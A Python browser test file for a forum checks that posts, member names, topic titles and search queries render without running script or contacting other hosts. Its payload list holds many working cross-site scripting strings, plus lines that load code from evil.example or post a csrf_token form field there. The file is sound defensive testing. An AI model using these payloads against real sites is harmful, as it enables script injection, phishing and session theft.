"""What members may have written to harm others: with scripts switched on, on every page that shows it, nothing runs."""

from __future__ import annotations

from typing import Final

from aiohttp.test_utils import TestServer
from playwright.async_api import Browser

from forum.db import RawConnection
from forum.markup import render, sanitize
from tests import markup_corpus, payloads
from tests.browser import harmless
from tests.browser.conftest import OpenPage
from tests.browser.content import Pen
from tests.lengths import IS_AUDIT
from tests.site import Site

_PAYLOADS: Final = (
    "<script>window.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1><script>window.ran=1</script></svg>",
    "<svg><animate attributeName=href values=javascript:window.ran=1 /><a id=x><text x=20 y=20>Click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=javascript:window.ran=1></object><embed src=//evil.example/x.swf>",
    "<details open ontoggle=window.ran=1>x</details>",
    "<input autofocus onfocus=window.ran=1><form><button formaction=javascript:window.ran=1>x</button></form>",
    "<form action=//evil.example/><input name=csrf_token><button>Σύνδεση</button></form>",
    "<a href=javascript:window.ran=1>x</a> [x](javascript:window.ran=1) <javascript:window.ran=1>",
    "[x](&#106;avascript:window.ran=1) [y](java\tscript:window.ran=1) [z](data:text/html,<script>top.ran=1</script>)",
    "![x](//evil.example/x.png) ![y](x' onerror='window.ran=1) ![z](data:image/svg+xml,<svg onload=window.ran=1>)",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x.png)}</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    "<body onload=window.ran=1><video><source onerror=window.ran=1></video><audio src=x onerror=window.ran=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<img id=csrf_token name=body><a id=main name=location>x</a><form id=cookie name=getElementById>",
    "<button popovertarget=way popovertargetaction=show>x</button><p is=x-x hx-get=/logout x-data=window.ran=1>x</p>",
    "<template shadowrootmode=open><script>window.ran=1</script></template><marquee onstart=window.ran=1>x</marquee>",
    "```<script>window.ran=1</script>\n<img src=x onerror=window.ran=1>\n```",
    "| <script>window.ran=1</script> | \"><img src=x onerror=window.ran=1> |\n| - | - |\n| ' onclick=window.ran=1 | |",
    '[^1]: <script>window.ran=1</script>\n\nx[^1] https://example.org/"onmouseover=window.ran=1//<script>window.ran=1</script>',
    "\"><script>window.ran=1</script> '><script>window.ran=1</script> </textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script> </time><svg onload=window.ran=1> {{7*7}} ${7*7} %(n)s",
)
_NAME: Final = "\"><img src=x onerror=window.ran=1>'</title>"


async def test_nothing_that_members_wrote_runs_or_calls_out(
    open_page: OpenPage, site: Site, owner: RawConnection
) -> None:
    maria = site.cast.maria.member_id
    await owner.execute("UPDATE members SET name = $1 WHERE id = $2", _NAME, maria)
    pen, moderator = await Pen.of(site, "maria"), await Pen.of(site, "moderator")
    everything = "\n\n".join(_PAYLOADS)
    topic = await pen.start("</title><script>window.ran=1</script>'\"><svg onload=window.ran=1>", everything)
    for payload in _PAYLOADS:
        await pen.reply(topic, payload, to=1)
    await pen.edit(topic, 2, everything)
    await moderator.pin(topic)
    await moderator.lock(topic, "<img src=x onerror=window.ran=1>")

    window = await open_page("maria", scripts=True)
    await harmless.watch(window)
    pages = (
        "/",
        "/categories/questions",
        topic.path,
        f"{topic.path}?page=2",
        f"/posts/{topic.posts[1]}/revisions",
        f"/members/{maria}",
        "/members?q=%3Cscript%3Ewindow.ran=1%3C/script%3E",
        "/municipalities/larnaca",
        "/search?q=script",
        "/search?q=%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E%3Cimg%20src=x%20onerror=window.ran=1%3E",
        "/settings",
    )
    for path in pages:
        await harmless.look(window, path)
    for path in (f"/posts/{topic.posts[1]}/edit", f"/topics/{topic.id}/posts/new?reply_to=2"):
        moderating = await open_page("moderator", scripts=True)
        await moderating.go(path, status=403 if "edit" in path else 200)
        assert await moderating.page.evaluate("window.ran ?? 0") == 0, path

    await window.go(topic.path)
    for link in await window.main.locator(".post-body a, .post-body [tabindex]").all():
        await link.hover()
        await link.focus()
    assert await window.page.evaluate("window.ran") == 0


async def test_stored_html_is_the_same_to_the_browsers_own_parser(chromium: Browser, server: TestServer) -> None:
    sources = [*payloads.ALL, *markup_corpus.TAGS, *list(markup_corpus.hostile_texts())[:: 5 if IS_AUDIT else 25]]
    htmls = [html for source in sources for html in (render(source).html, sanitize(source))]
    assert len(htmls) > (1_500 if IS_AUDIT else 1_000)
    address = str(server.make_url("/")).rstrip("/")
    assert await harmless.read_as_it_stands(chromium, address, htmls) == []


async def test_the_browser_would_tell(chromium: Browser, server: TestServer) -> None:
    address = str(server.make_url("/")).rstrip("/")
    for harmful in (
        "<img src=x onerror=alert(1)>",
        "<p onclick=x>x</p>",
        "<a href=javascript:x>x</a>",
        "<p>x",
        "<svg></svg>",
        "<table>x</table>",
    ):
        assert await harmless.read_as_it_stands(chromium, address, [harmful]), harmful
